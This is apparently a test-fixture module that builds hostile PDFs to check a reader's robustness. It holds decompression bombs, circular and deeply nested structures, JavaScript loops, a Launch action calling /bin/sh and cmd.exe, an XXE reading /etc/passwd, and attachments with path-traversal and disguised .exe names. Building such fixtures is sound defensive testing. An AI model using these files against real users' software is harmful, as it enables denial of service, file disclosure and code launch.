"""PDFs made to exhaust, crash or take over their reader."""

from __future__ import annotations

import io
import zlib

import pypdf

from tests.hostile.build import archive, deflated, locked_pdf, page_pdf, pdf, plain_pdf, stream, words

_MB = bytes(1 << 20)
_CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
_LEAF = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"


def user_password() -> bytes:
    return locked_pdf("segreta", "padrona")


def owner_password_only() -> bytes:
    return locked_pdf("", "padrona")


def gigabyte_flate() -> bytes:
    return page_pdf(stream(deflated(b" " * (1 << 20), 1024), b"/Filter /FlateDecode"))


def gigabyte_flate_twice() -> bytes:
    packed = deflated(deflated(b" " * (1 << 20), 1024), 1)
    return page_pdf(stream(packed, b"/Filter [/FlateDecode /FlateDecode]"))


def gigabyte_flate_predicted() -> bytes:
    entries = b"/Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 2147483647 /Colors 32 >>"
    return page_pdf(stream(deflated(_MB, 1024), entries))


def gigabyte_run_length() -> bytes:
    # Each pair of bytes makes 128; packed once more, 16 MB of pairs are small.
    pairs = deflated(b"\x81 " * (1 << 19), 16)
    return page_pdf(stream(pairs, b"/Filter [/FlateDecode /RunLengthDecode]"))


def gigabyte_lzw() -> bytes:
    # Codes of 9 bits: clear, a space, then ever the code before: 12-bit codes that grow by one each.
    codes = [(256, 9), (32, 9)]
    width = 9
    for code in range(258, 4095):
        codes.append((code, width))
        width = 12 if code >= 2046 else 11 if code >= 1022 else 10 if code >= 510 else 9
    bits = "".join(f"{code:0{size}b}" for code, size in codes)
    bits += "0" * (-len(bits) % 8)
    block = int(bits, 2).to_bytes(len(bits) // 8, "big")
    return page_pdf(stream(deflated(block, 130), b"/Filter [/FlateDecode /LZWDecode]"))


def a_million_kids() -> bytes:
    kids = b" ".join([b"3 0 R"] * 1_000_000)
    return pdf({1: _CATALOG, 2: b"<< /Type /Pages /Kids [%s] /Count 1000000 >>" % kids, 3: _LEAF})


def a_count_of_two_billion() -> bytes:
    return pdf({1: _CATALOG, 2: b"<< /Type /Pages /Kids [3 0 R] /Count 2147483647 >>", 3: _LEAF})


def a_negative_count() -> bytes:
    return pdf({1: _CATALOG, 2: b"<< /Type /Pages /Kids [3 0 R] /Count -5 >>", 3: _LEAF})


def kids_in_a_circle() -> bytes:
    node = b"<< /Type /Pages /Parent %d 0 R /Kids [%d 0 R %d 0 R] /Count 4 >>"
    return pdf({1: _CATALOG, 2: node % (3, 3, 3), 3: node % (2, 2, 2)})


def a_tree_ten_thousand_deep() -> bytes:
    node = b"<< /Type /Pages /Parent %d 0 R /Kids [%d 0 R] /Count 1 >>"
    nodes = {number: node % (number - 1, number + 1) for number in range(2, 10_002)}
    return pdf({1: _CATALOG, **nodes, 10_002: b"<< /Type /Page /Parent 10001 0 R /MediaBox [0 0 9 9] >>"})


def a_tree_that_doubles() -> bytes:
    node = b"<< /Type /Pages /Parent %d 0 R /Kids [%d 0 R %d 0 R] /Count %d >>"
    nodes = {n: node % (n - 1, n + 1, n + 1, 2 ** (32 - n)) for n in range(2, 32)}
    return pdf({1: _CATALOG, **nodes, 32: _LEAF})


def an_object_that_is_itself() -> bytes:
    return page_pdf(b"4 0 R", more={6: b"7 0 R", 7: b"6 0 R"}, page=b"/MediaBox 6 0 R /Rotate 7 0 R")


def a_length_that_is_its_own_stream() -> bytes:
    return page_pdf(b"<< /Length 4 0 R >>\nstream\nBT ET\nendstream")


def an_object_stream_in_itself() -> bytes:
    body = b"6 0 4 20 << /Type /ObjStm >>"
    inside = stream(body, b"/Type /ObjStm /N 2 /First 9 /Extends 6 0 R")
    return page_pdf(words(), more={6: inside})


def arrays_a_hundred_thousand_deep() -> bytes:
    deep = b"[" * 100_000 + b"]" * 100_000
    return page_pdf(words(), catalog=b"/Names %s" % deep)


def dictionaries_in_the_content() -> bytes:
    return page_pdf(stream(b"/A " + b"<< /B " * 100_000 + b">> " * 100_000 + b"BDC EMC"))


def a_table_that_points_to_itself() -> bytes:
    data = page_pdf(words())
    start = data.rindex(b"startxref")
    place = int(data[start:].split()[1])
    return data.replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev %d" % place)


def tables_in_a_circle() -> bytes:
    first = page_pdf(words())
    place = int(first[first.rindex(b"startxref") :].split()[1])
    second = len(first) + 1
    link = b"\nxref\n0 0\ntrailer << /Size 9 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF" % (
        place,
        second,
    )
    return first.replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev %010d" % (second + 17)) + link.replace(
        b"startxref\n%d" % second, b"startxref\n%d" % (second + 17)
    )


def tables_without_end() -> bytes:
    data = bytearray(page_pdf(words()))
    place = int(bytes(data[data.rindex(b"startxref") :]).split()[1])
    for _ in range(20_000):
        start = len(data) + 1
        data += b"\nxref\n0 0\ntrailer << /Size 9 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF" % (
            place,
            start,
        )
        place = start
    return bytes(data)


def sixty_megabytes_of_operators() -> bytes:
    line = b"0 0 m 1 1 l S q Q BT ET 1 0 0 1 0 0 cm\n"
    return page_pdf(stream(deflated(line * 1000, 60_000_000 // (1000 * len(line))), b"/Filter /FlateDecode"))


def three_million_words() -> bytes:
    line = b"BT /F1 1 Tf 1 0 0 1 9 9 Tm (parole e parole) Tj ET\n"
    return page_pdf(stream(deflated(line * 1000, 1000), b"/Filter /FlateDecode"))


def two_million_saved_states() -> bytes:
    return page_pdf(stream(deflated(b"q " * (1 << 19), 4), b"/Filter /FlateDecode"))


def a_huge_page() -> bytes:
    return page_pdf(words(), page=b"/MediaBox [0 0 1e30 1e30] /UserUnit 75000")


def a_page_of_nothing() -> bytes:
    return page_pdf(words(), page=b"/MediaBox [0 0 0 0]")


def a_negative_page() -> bytes:
    return page_pdf(words(), page=b"/MediaBox [595 842 -595 -842] /CropBox [9 9 -9 -9]")


def a_page_that_is_no_number() -> bytes:
    return page_pdf(words(), page=b"/MediaBox [nan -inf 1e999 (a)] /Rotate 37")


def a_font_with_endless_widths() -> bytes:
    widths = deflated(b"500 " * (1 << 18), 8)
    span = b"/FirstChar -2147483648 /LastChar 2147483647 /Widths 6 0 R"
    font = b"<< /Type /Font /Subtype /TrueType /BaseFont /A %s >>" % span
    return page_pdf(
        stream(b"BT /F2 9 Tf 60 700 Td (Testo) Tj ET"),
        resources=b"/ExtGState << >> /Font << /F2 7 0 R >>",
        more={6: b"[" + zlib.decompress(widths)[: 1 << 20] + b"]", 7: font},
    )


def a_character_map_without_end() -> bytes:
    cmap = b"1 beginbfrange <0000> <FFFFFFFF> <0041> endbfrange " * 2000
    maps = b"/Encoding /Identity-H /ToUnicode 6 0 R /DescendantFonts [7 0 R]"
    font = b"<< /Type /Font /Subtype /Type0 /BaseFont /A %s >>" % maps
    return page_pdf(
        stream(b"BT /F2 9 Tf 60 700 Td <00410042> Tj ET"),
        resources=b"/Font << /F2 8 0 R >>",
        more={
            6: stream(cmap),
            7: b"<< /Type /Font /Subtype /CIDFontType2 /W [0 [1] 1 2147483647 9] >>",
            8: font,
        },
    )


def forms_that_call_one_another() -> bytes:
    form = (
        b"/Type /XObject /Subtype /Form /BBox [0 0 99 99] /Resources << /XObject << /A 6 0 R /B 7 0 R >> >>"
    )
    return page_pdf(
        stream(b"/A Do /B Do"),
        resources=b"/XObject << /A 6 0 R /B 7 0 R >>",
        more={6: stream(b"/A Do /B Do /B Do", form), 7: stream(b"/A Do /A Do /B Do", form)},
    )


def forms_that_double_thirty_times() -> bytes:
    entries = b"/Type /XObject /Subtype /Form /BBox [0 0 99 99] /Resources << /XObject << /A %d 0 R >> >>"
    forms = {n: stream(b"/A Do /A Do", entries % (n + 1)) for n in range(6, 36)}
    forms[36] = stream(b"0 0 9 9 re f", b"/Type /XObject /Subtype /Form /BBox [0 0 99 99]")
    return page_pdf(stream(b"/A Do"), resources=b"/XObject << /A 6 0 R >>", more=forms)


def forms_of_one_level() -> bytes:
    form = b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Matrix [1 0 0 1 9 9] /Filter /FlateDecode"
    text = zlib.compress(b"BT /F1 12 Tf 60 700 Td (Testo dentro una forma.) Tj ET 0 0 m 90 90 l S")
    return page_pdf(stream(b"/A Do"), resources=b"/XObject << /A 6 0 R >>", more={6: stream(text, form)})


def patterns_in_patterns() -> bytes:
    entries = (
        b"/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 50 50] /XStep 50 /YStep 50 "
        b"/Resources << /Pattern << /P 6 0 R >> >>"
    )
    return page_pdf(
        stream(b"/Pattern cs /P scn 0 0 595 842 re f"),
        resources=b"/Pattern << /P 6 0 R >>",
        more={6: stream(b"/Pattern cs /P scn 0 0 1 1 re f", entries)},
    )


def _picture(data: bytes, entries: bytes) -> bytes:
    return page_pdf(
        stream(b"595 0 0 842 0 0 cm /I Do"),
        resources=b"/XObject << /I 6 0 R >>",
        more={6: stream(data, b"/Type /XObject /Subtype /Image /BitsPerComponent 8 " + entries)},
    )


def junk_jbig2() -> bytes:
    junk = bytes(range(256)) * 200
    return _picture(junk, b"/Width 2000 /Height 2000 /ColorSpace /DeviceGray /Filter /JBIG2Decode")


def junk_jpeg2000() -> bytes:
    junk = b"\x00\x00\x00\x0cjP  \r\n\x87\n" + bytes(range(256)) * 200
    return _picture(junk, b"/Width 2000 /Height 2000 /Filter /JPXDecode")


def junk_fax() -> bytes:
    junk = bytes(range(255, -1, -1)) * 200
    parameters = b"/DecodeParms << /K -1 /Columns 60000 /Rows 60000 >>"
    return _picture(junk, b"/Width 60000 /Height 60000 /Filter /CCITTFaxDecode " + parameters)


def a_picture_of_ten_thousand_megapixels() -> bytes:
    rows = deflated(_MB, 64)
    return _picture(rows, b"/Width 100000 /Height 100000 /ColorSpace /DeviceGray /Filter /FlateDecode")


def javascript() -> bytes:
    action = b"<< /S /JavaScript /JS (app.alert\\(1\\); while\\(true\\){}) >>"
    names = b"/OpenAction %s /AA << /WC %s >> /Names << /JavaScript << /Names [(a) %s] >> >>"
    return page_pdf(words("Modulo con uno script."), catalog=names % (action, action, action))


def launch_action() -> bytes:
    action = b"/OpenAction << /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c calc) >> >>"
    return page_pdf(words("Atto che avvia un programma."), catalog=action)


def link_to_a_server() -> bytes:
    actions = b"/OpenAction << /S /URI /URI (http://192.0.2.1/spia) >>"
    submit = b"/AA << /O << /S /SubmitForm /F (http://192.0.2.1/) >> >> /MediaBox [0 0 595 842]"
    return page_pdf(words("Atto che chiama un server."), catalog=actions, page=submit)


def external_stream() -> bytes:
    outside = stream(b"", b"/F << /FS /URL /F (file:///etc/passwd) >> /FFilter /FlateDecode")
    return page_pdf(outside, catalog=b"/AcroForm << /XFA 6 0 R >>")


def xfa_form() -> bytes:
    xfa = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><xdp>&e;</xdp>'
    return page_pdf(
        words("Modulo XFA."), catalog=b"/AcroForm << /XFA 6 0 R /Fields [] >>", more={6: stream(xfa)}
    )


def executable_attached() -> bytes:
    writer = pypdf.PdfWriter(clone_from=io.BytesIO(plain_pdf()))
    writer.add_attachment("../../../../tmp/fattura.pdf.exe", b"MZ" + bytes(5000))
    writer.add_attachment("/etc/cron.d/prassi", b"* * * * * root true\n")
    writer.add_attachment("nota\n\u202efdp.exe", b"MZ" + bytes(100))
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def itself_attached() -> bytes:
    writer = pypdf.PdfWriter(clone_from=io.BytesIO(plain_pdf()))
    for depth in range(20):
        buffer = io.BytesIO()
        writer.write(buffer)
        writer = pypdf.PdfWriter(clone_from=io.BytesIO(plain_pdf()))
        writer.add_attachment(f"livello{depth}.pdf", buffer.getvalue())
    writer.write(buffer := io.BytesIO())
    return buffer.getvalue()


def an_outline_in_a_circle() -> bytes:
    item = b"<< /Title (Voce) /Parent 6 0 R /Next %d 0 R /First %d 0 R /Last %d 0 R /Dest [3 0 R /Fit] >>"
    outline = {6: b"<< /First 7 0 R /Last 8 0 R /Count 9 >>", 7: item % (8, 8, 8), 8: item % (7, 7, 7)}
    return page_pdf(words(), catalog=b"/Outlines 6 0 R", more=outline)


def labels_and_names_in_a_circle() -> bytes:
    tree = b"<< /Kids [6 0 R 6 0 R] /Limits [(a) (z)] >>"
    catalog = b"/PageLabels 6 0 R /Names << /EmbeddedFiles 6 0 R /Dests 6 0 R >> /StructTreeRoot 6 0 R"
    return page_pdf(words(), catalog=catalog, more={6: tree})


def zip_at_its_end() -> bytes:
    return page_pdf(words("PDF e archivio insieme.")) + archive({"../fuori.txt": b"testo"})


def web_page_before_it() -> bytes:
    return (
        b"<html><script>alert(1)</script><body>" + page_pdf(words("Pagina web e PDF insieme.")) + b"</body>"
    )


def thousand_versions() -> bytes:
    data = plain_pdf()
    tail = data[data.rindex(b"xref\n0") :]
    return data + (b"\n" + tail) * 1000
